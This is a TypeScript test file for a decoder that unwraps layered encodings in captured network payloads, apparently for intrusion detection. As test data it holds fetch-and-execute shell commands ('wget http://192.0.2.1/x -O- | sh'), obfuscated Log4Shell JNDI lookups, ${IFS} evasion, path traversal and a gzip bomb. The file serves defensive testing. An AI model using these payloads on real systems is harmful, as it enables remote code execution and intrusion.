// What payloads are wrapped in and how it comes off: each layer, layers within layers, where the parts of requests went, and bounds.
// biome-ignore-all lint/suspicious/noTemplateCurlyInString: these are payloads, not templates

import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
import fc from 'fast-check';
import { decodePercent, stripTelnet } from './decoders.ts';
import { joinChunks, parseRequests } from './http-requests.ts';
import { inflate } from './inflate.ts';
import { LiteralIndex } from './literal-index.ts';
import { foldLookups } from './lookups.ts';
import { maxInflateWork, maxTextBytes, SessionTexts, signLiterals } from './session-texts.ts';

const owners = new Map<string, number[]>();
for (const [literal, sign] of signLiterals) owners.set(literal, [...(owners.get(literal) ?? []), sign]);
const index = new LiteralIndex(owners);

function textsOf(payload: string | Buffer): SessionTexts {
  let signs = 0;
  const texts = new SessionTexts((bytes) => {
    signs = 0;
    index.scan(bytes, (sign) => {
      signs |= sign;
    });
    return signs;
  });
  texts.addPayload(typeof payload === 'string' ? Buffer.from(payload, 'latin1') : payload);
  texts.decode();
  return texts;
}

const readings = (payload: string | Buffer): string[] => textsOf(payload).all.map((text) => text.bytes.toString('latin1'));
const shows = (payload: string | Buffer, wanted: string): void =>
  assert.ok(
    readings(payload).some((reading) => reading.includes(wanted)),
    `${wanted} in ${JSON.stringify(readings(payload))}`,
  );

describe('readings', () => {
  it('undo URL escapes once, twice, wide and as forms write them', () => {
    shows('GET /%2e%2e/%65tc HTTP/1.1\r\n\r\n', '/../etc');
    shows('GET /%252e%252e/etc HTTP/1.1\r\n\r\n', '/../etc');
    shows('GET /%u002e%u002e/etc HTTP/1.1\r\n\r\n', '/../etc');
    shows('GET /x?cmd=wget+http://192.0.2.1/a HTTP/1.1\r\n\r\n', 'wget http://192.0.2.1/a');
    shows('POST /x HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\na=b+c', 'a=b c');
    assert.deepEqual(readings('GET / HTTP/1.1\r\nAccept: application/xhtml+xml\r\n\r\n').length, 1);
    // Two of three TLS hellos have one by chance.
    assert.deepEqual(readings('\x16\x03\x01\x01+\xfd\x03+').length, 1);
    assert.deepEqual(readings('caf\xe9+a')[1], 'caf\xe9 a');
  });

  it('undo base64, hex, UTF-16, entities, escapes and shell separators, one within another', () => {
    const inner = 'wget http://192.0.2.1/x -O- | sh';
    shows(`data=${Buffer.from(inner).toString('base64')}`, inner);
    shows(`data=${Buffer.from(inner).toString('hex')}`, inner);
    shows(`powershell -enc ${Buffer.from(inner, 'utf16le').toString('base64')}`, inner);
    shows(Buffer.from(`cmd ${inner}`, 'utf16le'), inner);
    shows('<a>&lt;script&#62;&#x28;', '<script>(');
    shows('echo -ne "\\x77\\x67\\145\\164"', 'wget');
    shows('{"u":"http:\\/\\/192.0.2.1\\u002fa"}', 'http://192.0.2.1/a');
    shows('cd$IFS$9/tmp;wget${IFS}http://192.0.2.1/x', 'cd /tmp;wget http://192.0.2.1/x');
    const nested = encodeURIComponent(Buffer.from(gzipSync(inner)).toString('base64'));
    shows(`GET /?q=${nested} HTTP/1.1\r\n\r\n`, inner);
  });

  it('fold the lookups of Log4j', () => {
    for (const text of [
      '${jndi:ldap://192.0.2.1/a}',
      '${${lower:j}ndi:${lower:l}${lower:d}ap://192.0.2.1/a}',
      '${${::-j}${::-n}${::-d}${::-i}:ldap://192.0.2.1/a}',
      '${${env:NOTHING:-j}ndi${env:NOTHING:-:}ldap://192.0.2.1/a}',
      '${${upper:${lower:j}}ndi:ldap://192.0.2.1/a}'.replace('upper', 'lower'),
      "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://192.0.2.1/a}",
      '${jn${env::-}di:ldap://192.0.2.1/a}',
      '${${sys:x:-${lower:J}}ndi:ldap://192.0.2.1/a}',
    ]) {
      shows(text, '${jndi:ldap://192.0.2.1/a}');
      shows(`GET /?x=${encodeURIComponent(text)} HTTP/1.1\r\n\r\n`, '${jndi:ldap://192.0.2.1/a}');
    }
    assert.equal(foldLookups(Buffer.from('${env:HOME} ${date:yyyy} $x {y}')), undefined);
    assert.equal(foldLookups(Buffer.from("${x${lower:}${::-j}}${DATE:'é'}${upper:ı${lower:É}}"))?.toString(), '${xj}éIÉ');
  });

  it('undo chunked and compressed bodies, also when they break off', () => {
    const body = 'cmd=wget http://192.0.2.1/x';
    const head = (more: string): string => `POST /a HTTP/1.1\r\n${more}\r\n\r\n`;
    shows(
      `${head('Transfer-Encoding: chunked')}4\r\ncmd=\r\n5;x=y\r\nwget \r\n9\r\nhttp://19\r\n9\r\n2.0.2.1/x\r\n0\r\n\r\n`,
      body,
    );
    for (const packed of [gzipSync(body), deflateSync(body), deflateRawSync(body)])
      shows(Buffer.concat([Buffer.from(head('Content-Encoding: deflate')), packed]), body);
    const long = Buffer.from(Array.from({ length: 400 }, (_, n) => `${body} ${n}\n`).join(''));
    const cut = gzipSync(long);
    shows(Buffer.concat([Buffer.from(head('Content-Encoding: gzip')), cut.subarray(0, cut.length - 40)]), `${body} 17`);
    assert.equal(joinChunks(Buffer.from('hello')), undefined);
  });

  it('take Telnet commands out', () => {
    const bytes = Buffer.from([255, 253, 1, 255, 251, 31, 255, 250, 31, 0, 80, 0, 24, 255, 240, 114, 111, 255, 255, 111, 116]);
    assert.equal(stripTelnet(bytes)?.toString('latin1'), 'ro\xffot');
    shows(bytes, 'ro\xffot');
  });

  it('keep track of where the parts of a request went', () => {
    const { all } = textsOf('POST /a%2fb?c=%64%2520 HTTP/1.1\r\nX-Y: %41%42\r\nContent-Length: 9\r\n\r\nd=%65%66!');
    const partOf = (view: string, depth: number, part: string): string | undefined => {
      const text = all.find((one) => one.view === view && one.depth === depth);
      const piece = text?.pieces().find((one) => one.part === part);
      return piece && text?.bytes.toString('latin1', piece.start, piece.end);
    };
    assert.equal(partOf('raw', 0, 'path'), '/a%2fb');
    assert.equal(partOf('url', 1, 'path'), '/a/b');
    assert.equal(partOf('url', 1, 'query'), 'c=d%20');
    assert.equal(partOf('url', 2, 'query'), 'c=d ');
    assert.equal(partOf('url', 1, 'header'), 'AB');
    assert.equal(partOf('url', 2, 'body'), 'd=ef!');
  });

  it('find requests that follow one another, and one behind a preface', () => {
    const parts = (text: string, part: string): string[] => {
      const bytes = Buffer.from(text, 'latin1');
      return parseRequests(bytes)
        .filter((piece) => piece.part === part)
        .map((piece) => `${piece.request}:${bytes.toString('latin1', piece.start, piece.end)}`);
    };
    const two = 'POST /a HTTP/1.1\r\nContent-Length: 3\r\n\r\nx=1GARBAGE\r\nGET /b?c=d HTTP/1.0\r\nHost: h\r\n\r\n';
    assert.deepEqual(parts(two, 'path'), ['0:/a', '1:/b']);
    assert.deepEqual(parts(two, 'body'), ['0:x=1GARBAGE\r\n']);
    assert.deepEqual(parts('\x05\x01\0\x01\0\x50GET /x HTTP/1.1\n\n', 'path'), ['0:/x']);
    assert.deepEqual(parts('GET /shell?cd /tmp;wget http://192.0.2.1/a HTTP/1.1\r\n\r\n', 'query'), [
      '0:cd /tmp;wget http://192.0.2.1/a',
    ]);
    assert.deepEqual(parts('GET /old\r\n', 'path'), ['0:/old']);
    assert.deepEqual(parts('hello world', 'path'), []);
    assert.deepEqual(parts('get\t/x\tHTTP/1.1\r\n\r\n', 'path'), ['0:/x']);
    const many = parts('GET /x HTTP/1.1\r\n\r\n'.repeat(100), 'path');
    assert.deepEqual([many.length, many[99]], [100, '31:/x']);
    const headers = Array.from({ length: 100 }, (_, index) => `x-${index}: a\r\n`).join('');
    assert.deepEqual(parts(`GET / HTTP/1.1\r\n${headers}\r\n`, 'header').length, 100);
    assert.ok(parseRequests(Buffer.from('GET / HTTP/1.1\r\n\r\n'.repeat(3500))).length < 8200);
  });

  it('find where a path begins behind what says nothing', () => {
    const paths = (target: string): string[] => {
      const bytes = Buffer.from(`GET ${target} HTTP/1.1\r\n\r\n`, 'latin1');
      const found = parseRequests(bytes).filter(({ part }) => part === 'path');
      return found.map(({ start, end }) => bytes.toString('latin1', start, end));
    };
    assert.deepEqual(paths('/a/b/'), ['/a/b/']);
    assert.deepEqual(paths('/a/../b'), ['/a/../b', '/b']);
    assert.deepEqual(paths('//./b?c=/..//d'), ['//./b', '/b']);
    assert.deepEqual(paths(' http://192.0.2.1:80//x/y/../../b'), [' http://192.0.2.1:80//x/y/../../b', '/x/y/../../b', '/b']);
    assert.deepEqual(paths('http://192.0.2.1'), ['http://192.0.2.1']);
    assert.deepEqual(paths('*'), ['*']);
    assert.deepEqual(paths('/../../b'), ['/../../b', '/b']);
  });
});

describe('bounds', () => {
  it('hold whatever is sent: number, bytes, and a bomb stays small', () => {
    const bomb = gzipSync(Buffer.alloc(50_000_000));
    const head = Buffer.from('POST /a HTTP/1.1\r\nContent-Encoding: gzip\r\n\r\n');
    for (const payload of [
      Buffer.concat([head, bomb.subarray(0, 60_000)]),
      Buffer.from('%25'.repeat(21_000)),
      Buffer.from('\xff\xfa\x27\0'.repeat(16_000), 'latin1'),
      Buffer.from('${lower:'.repeat(8000)),
      Buffer.from('%24%7b&#36;\\x24+${IFS}'.repeat(2900)),
      Buffer.from(Buffer.from(Buffer.from('a'.repeat(20_000)).toString('base64')).toString('base64')),
    ]) {
      const texts = textsOf(payload);
      const bytes = texts.all.reduce((sum, text) => sum + text.bytes.length, 0);
      assert.ok(bytes <= maxTextBytes && texts.all.length <= 24 && texts.all.every((text) => text.depth <= 3), `${bytes}`);
    }
    assert.equal(textsOf(Buffer.concat([head, bomb.subarray(0, 60_000)])).curtailed, true);
  });

  it('hold for any bytes, and nothing throws', () => {
    const alphabet = [
      '%',
      '2',
      '5',
      '+',
      '&#',
      'x41;',
      '\\x4',
      '${',
      'lower:',
      '}',
      ':-',
      '\xff\xfd',
      '\0',
      'a\0b\0',
      ' HTTP/1.1',
      '\r\n',
      'GET /',
    ];
    fc.assert(
      fc.property(fc.array(fc.oneof(fc.constantFrom(...alphabet), fc.string({ maxLength: 3 })), { maxLength: 200 }), (parts) => {
        const texts = textsOf(Buffer.from(parts.join(''), 'latin1'));
        for (const text of texts.all)
          for (const piece of text.pieces())
            assert.ok(piece.start <= piece.end && piece.end <= text.bytes.length, `${text.view} ${JSON.stringify(piece)}`);
      }),
      { numRuns: 1500 },
    );
  });

  it('undoing escapes never makes anything longer', () => {
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom('%', 'u', '0', '4', '1', 'e', 'z'), maxLength: 60 }), (text) => {
        assert.ok((decodePercent(Buffer.from(text))?.length ?? 0) <= text.length);
      }),
    );
  });
});

describe('inflating', () => {
  const plenty = () => ({ left: 1e6 });

  it('ends at a limit of its own, however many bombs and blocks a payload is made of', () => {
    const post = (body: Buffer): Buffer =>
      Buffer.concat([Buffer.from(`POST / HTTP/1.1\r\nAccept: deflate\r\nContent-Length: ${body.length}\r\n\r\n`), body]);
    const full = (unit: Buffer): Buffer => Buffer.alloc(65_536, unit);
    const bomb = gzipSync(Buffer.alloc(30_000, 'a'));
    // A last block of its own codes, of which one is of no length at all.
    const codes = Buffer.from('05c0810000000000', 'hex');
    for (const payload of [full(post(bomb)), full(post(codes)), post(full(codes)), full(post(Buffer.from('xyz')))]) {
      const { inflateWork, curtailed } = textsOf(payload);
      assert.ok(inflateWork.left >= -1000, `${inflateWork.left}`);
      assert.ok(curtailed || inflateWork.left > 0);
    }
    assert.equal(textsOf(full(post(bomb))).curtailed, true);
    let seed = 1;
    const words = Array.from({ length: 9000 }, () => {
      seed = (seed * 1103515245 + 12345) % 2147483648;
      return `${seed % 5000} `;
    });
    const honest = textsOf(post(gzipSync(Buffer.from(words.join('')))));
    assert.ok(honest.inflateWork.left > maxInflateWork / 2, `${honest.inflateWork.left}`);
  });

  it('gives what zlib gives', () => {
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 3000 }), fc.integer({ min: 0, max: 9 }), (bytes, level) => {
        const doubled = Buffer.concat([bytes, bytes]);
        if (doubled.length === 0) return;
        for (const packed of [gzipSync(doubled, { level }), deflateSync(doubled, { level })])
          assert.deepEqual(inflate(packed, 10_000, false, plenty()), { bytes: doubled, whole: true });
        assert.deepEqual(inflate(deflateRawSync(doubled, { level }), 10_000, true, plenty())?.bytes, doubled);
      }),
      { numRuns: 200 },
    );
  });

  it('survives any bytes and any damage', () => {
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 200 }), fc.nat(), fc.nat(255), (bytes, at, value) => {
        inflate(bytes, 1000, true, plenty());
        const packed = gzipSync(Buffer.from('abcabcabcabc'.repeat(30)));
        packed[at % packed.length] = value;
        const result = inflate(packed, 200, false, plenty());
        assert.ok((result?.bytes.length ?? 0) <= 200);
      }),
      { numRuns: 2000 },
    );
  });
});
